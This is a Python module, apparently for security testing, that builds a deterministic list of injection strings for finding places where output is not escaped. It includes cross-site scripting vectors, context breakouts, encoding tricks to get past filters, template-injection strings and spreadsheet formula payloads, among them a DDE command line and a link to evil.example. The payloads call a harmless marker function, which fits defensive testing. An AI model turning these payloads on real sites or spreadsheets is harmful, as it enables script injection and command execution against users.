"""Texts that would become markup, script or a formula wherever somebody forgot to escape them. The same numbers give the same texts.

Each calls `x()` when it runs, and each element that it brings in has the attribute `m7`.
"""

import itertools
import random

# What ends the place in which a text stands: nothing, an attribute, an element of text, a script, a comment, a template, a JSON string.
ENDS = (
    "", '"', "'", '">', "'>", " ", "`", "</title>", "</textarea>", "</script>", "</style>", "</noscript>", "</select>", "</template>", "-->", "]]>", "*/",
    "}}", "%}", "\\\"", "\\'", "</svg>", "</math>", "\n", "\t", "/>", "<!--", "<![CDATA[", "&quot;>", "&#39;>",
)  # fmt: skip
# What runs by itself once it stands there.
RUNS = (
    "<script m7>x()</script>",
    "<img m7 src=y onerror=x()>",
    "<svg m7 onload=x()>",
    "<svg m7><script>x()</script></svg>",
    "<body m7 onload=x()>",
    "<iframe m7 srcdoc='<script>parent.x()</script>'>",
    "<iframe m7 src=javascript:parent.x()>",
    "<details m7 open ontoggle=x()>",
    "<input m7 autofocus onfocus=x()>",
    "<video m7><source onerror=x()></video>",
    "<audio m7 src=y onerror=x()>",
    "<object m7 data=javascript:x()>",
    "<embed m7 src=javascript:x()>",
    "<a m7 href=javascript:x()>x</a>",
    "<form m7 action=javascript:x()><button>x</button></form>",
    "<math m7><mtext><table><mglyph><style><img src=y onerror=x()>",
    "<noscript><p title='</noscript><img m7 src=y onerror=x()>'>",
    "<template m7 shadowrootmode=open><img src=y onerror=x()></template>",
    "<style m7>@keyframes k{}*{animation:k 1s}</style><b m7 onanimationstart=x()>",
    "<link m7 rel=stylesheet href=y onerror=x()>",
    "<meta m7 http-equiv=refresh content='0;url=javascript:x()'>",
    "<base m7 href=//evil.example/>",
    "<marquee m7 onstart=x()>",
    "<b m7 hx-on::load=x()>",
    "<b m7 hx-get=/ hx-trigger=load hx-swap=outerHTML>",
    "<b m7 hx-vals='js:{a:x()}' hx-trigger=load hx-get=/>",
    " onfocus=x() autofocus m7 ",
    " onerror=x() src=y m7 ",
    " style=animation-name:k onanimationstart=x() m7 ",
    " hx-on::load=x() m7 ",
    "javascript:x()",
    "data:text/html,<script>parent.x()</script>",
    "{{x()}}",
    "{{constructor.constructor('x()')()}}",
    "{% if x() %}{% endif %}",
    "${x()}",
    ";x();//",
    "'+x()+'",
    '"});x();//',
)
# How it is written, for whoever looks for the usual writing and does not escape.
WRITTEN = (
    lambda text: text,
    lambda text: text.replace("script", "ScRiPt").replace("img", "IMG").replace("svg", "SvG"),
    lambda text: text.replace(" m7", "/m7").replace(" src=", "/src=").replace(" on", "/on"),
    lambda text: text.replace("=x()", "=&#120;&lpar;)"),
    lambda text: text.replace("<", "\uff1c").replace(">", "\uff1e"),
    lambda text: text.replace("<", "&lt;").replace(">", "&gt;"),
    lambda text: text.replace("<", "%3C").replace(">", "%3E"),
    lambda text: text.replace("<", "\\u003c").replace(">", "\\u003e"),
    lambda text: text.replace("javascript:", "java&Tab;script:").replace("script>", "script\n>"),
)  # fmt: skip
# For the narrow places: a nickname has 20 characters.
SHORT = (
    "<svg m7 onload=x()>",
    "<b m7 onfocus=x()>",
    '"onfocus=x() m7 x="',
    "<p m7>",
    "javascript:x()",
    "{{x()}}",
    "'><s m7>",
    '"><i m7>',
    "</p><u m7>",
)
FORMULAS = ("=1+1", "+1+1", "-1+1", "@SUM(1)", "\t=1+1", "\r=1+1", "=cmd|' /C calc'!A0", '=HYPERLINK("http://evil.example")')  # fmt: skip


def payloads(count: int) -> list[str]:
    """So many different texts: the short ones, the formulas, then a mixture of all combinations."""
    every = [write(end + run) for end, run, write in itertools.product(ENDS, RUNS, WRITTEN)]
    mixed = sorted(set(every) - set(SHORT))
    random.Random(7).shuffle(mixed)
    return [*SHORT, *FORMULAS, *mixed][:count]


def cells(texts: list[str], longest: int) -> list[str]:
    """The texts packed into pieces of at most so many characters, in their order; what is longer alone is left out."""
    packed = [""]
    for text in texts:
        if len(text) > longest:
            continue
        joined = f"{packed[-1]} {text}".lstrip(" ")
        if len(joined) <= longest:
            packed[-1] = joined
        else:
            packed.append(text)
    return packed
